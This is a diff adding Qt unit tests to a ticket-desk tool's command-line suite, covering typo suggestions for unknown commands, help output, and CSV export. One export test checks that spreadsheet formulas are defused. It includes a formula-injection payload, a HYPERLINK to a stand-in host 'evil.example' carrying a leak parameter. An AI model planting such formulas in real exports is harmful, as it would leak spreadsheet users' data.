@@ -85,6 +85,9 @@ private Q_SLOTS:
     void invocationDetection_data();
     void invocationDetection();
     void versionAndHelp();
+    void helpListsDesktopOptions();
+    void unknownCommand_data();
+    void unknownCommand();
     void emptyListJson();
     void defaultDatabaseIsCreated();
     void listText();
@@ -97,6 +100,7 @@ private Q_SLOTS:
     void showNotFound();
     void exportFiles_data();
     void exportFiles();
+    void exportNeutralisesFormulas();
     void unopenableDatabase_data();
     void unopenableDatabase();
 
@@ -173,6 +177,10 @@ void TestCommandLine::invocationDetection_data()
     QTest::newRow("none") << QStringList{} << false;
     QTest::newRow("demo is the GUI") << QStringList{QStringLiteral("--demo")} << false;
     QTest::newRow("command not first") << QStringList{QStringLiteral("--db"), QStringLiteral("list")} << false;
+    // A word that is not an option is a command, known or not: a typo must not start the desktop.
+    QTest::newRow("typo") << QStringList{QStringLiteral("lsit"), QStringLiteral("--json")} << true;
+    QTest::newRow("unknown word") << QStringList{QStringLiteral("frobnicate")} << true;
+    QTest::newRow("unknown option is the GUI's to refuse") << QStringList{QStringLiteral("--bogus")} << false;
 }
 
 void TestCommandLine::invocationDetection()
@@ -207,6 +215,52 @@ void TestCommandLine::versionAndHelp()
     const Run serve = run({QStringLiteral("serve")});
     QCOMPARE(serve.code, 1);
     QCOMPARE(serve.err.count(QLatin1Char('\n')), 1);
+}
+
+void TestCommandLine::helpListsDesktopOptions()
+{
+    const Run r = run({QStringLiteral("--help")});
+    QCOMPARE(r.code, 0);
+    const qsizetype section = r.out.indexOf(QStringLiteral("Desktop options"));
+    QVERIFY(section > 0);
+    for (const char *option : {"--demo", "--db PATH", "--palette NAME", "--lang CODE"})
+        QVERIFY2(r.out.indexOf(QString::fromLatin1(option), section) > section, option);
+}
+
+void TestCommandLine::unknownCommand_data()
+{
+    QTest::addColumn<QString>("command");
+    QTest::addColumn<QString>("suggestion"); // empty: none expected
+    QTest::newRow("swapped letters") << QStringLiteral("lsit") << QStringLiteral("list");
+    QTest::newRow("missing letter") << QStringLiteral("lst") << QStringLiteral("list");
+    QTest::newRow("upper case") << QStringLiteral("LIST") << QStringLiteral("list");
+    QTest::newRow("shwo") << QStringLiteral("shwo") << QStringLiteral("show");
+    QTest::newRow("exprot") << QStringLiteral("exprot") << QStringLiteral("export");
+    QTest::newRow("serv") << QStringLiteral("serv") << QStringLiteral("serve");
+    QTest::newRow("creat") << QStringLiteral("creat") << QStringLiteral("create");
+    QTest::newRow("retyr") << QStringLiteral("retyr") << QStringLiteral("retry");
+    QTest::newRow("hlep") << QStringLiteral("hlep") << QStringLiteral("help");
+    QTest::newRow("three edits away") << QStringLiteral("lisssst") << QString();
+    QTest::newRow("nothing near") << QStringLiteral("frobnicate") << QString();
+    QTest::newRow("empty word") << QString() << QString();
+}
+
+void TestCommandLine::unknownCommand()
+{
+    QFETCH(QString, command);
+    QFETCH(QString, suggestion);
+    const Run r = run({command, QStringLiteral("--json"), QStringLiteral("--db"), db()});
+    QCOMPARE(r.code, 2);
+    QVERIFY(r.out.isEmpty());
+    const QStringList lines = r.err.split(QLatin1Char('\n'), Qt::SkipEmptyParts);
+    QCOMPARE(lines.size(), 2);
+    const QString expected =
+        suggestion.isEmpty()
+            ? QStringLiteral("ticketdesk: unknown command '%1'").arg(command)
+            : QStringLiteral("ticketdesk: unknown command '%1'; did you mean '%2'?").arg(command, suggestion);
+    QCOMPARE(lines[0], expected);
+    QVERIFY(lines[1].contains(QStringLiteral("--help")));
+    QVERIFY(!QFile::exists(db()));
 }
 
 void TestCommandLine::emptyListJson()
@@ -411,6 +465,50 @@ void TestCommandLine::exportFiles()
     }
     if (expected.contains(1))
         QVERIFY(content.contains("\"Refund, \"\"urgent\"\"\nsecond line\""));
+}
+
+void TestCommandLine::exportNeutralisesFormulas()
+{
+    // Customer-supplied text that a spreadsheet would run: each must arrive as inert text.
+    const QStringList formulas{
+        QStringLiteral("=HYPERLINK(\"http://evil.example/?leak\",\"x\")"),
+        QStringLiteral("+1+1"),
+        QStringLiteral("-2+3"),
+        QStringLiteral("@SUM(A1:A2)"),
+    };
+    {
+        ManualClock clock(QDateTime(QDate(2026, 6, 1), QTime(9, 0), Qt::UTC));
+        TicketStore store(clock);
+        QVERIFY(store.open(db()).ok());
+        for (const QString &formula : formulas) {
+            Ticket t;
+            t.customerId = QStringLiteral("aaaaaaaa-0000-0000-0000-000000000001");
+            t.summary = formula;
+            t.description = QStringLiteral("=1+1");
+            QVERIFY(store.insertTicket(t) > 0);
+        }
+    }
+    const QString path = m_dir->filePath(QStringLiteral("formulas.csv"));
+    const Run r = run({QStringLiteral("export"), path, QStringLiteral("--db"), db()});
+    QCOMPARE(r.code, 0);
+    QFile file(path);
+    QVERIFY(file.open(QIODevice::ReadOnly));
+    const QByteArray content = file.readAll();
+    const QList<QStringList> rows = parseCsv(QString::fromUtf8(content));
+    QCOMPARE(rows.size(), formulas.size() + 1);
+    const qsizetype summary = rows[0].indexOf(QStringLiteral("summary"));
+    const qsizetype description = rows[0].indexOf(QStringLiteral("description"));
+    QVERIFY(summary >= 0 && description >= 0);
+    for (qsizetype i = 0; i < formulas.size(); ++i) {
+        QCOMPARE(rows[i + 1][summary], QLatin1Char('\'') + formulas[i]);
+        QCOMPARE(rows[i + 1][description], QStringLiteral("'=1+1"));
+    }
+    // No cell of the file starts with a formula character.
+    for (const QStringList &row : rows) {
+        for (const QString &cell : row)
+            QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@").contains(cell.front()), qPrintable(cell));
+    }
+    QVERIFY(content.contains("\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"x\"\")\""));
 }
 
 void TestCommandLine::unopenableDatabase_data()
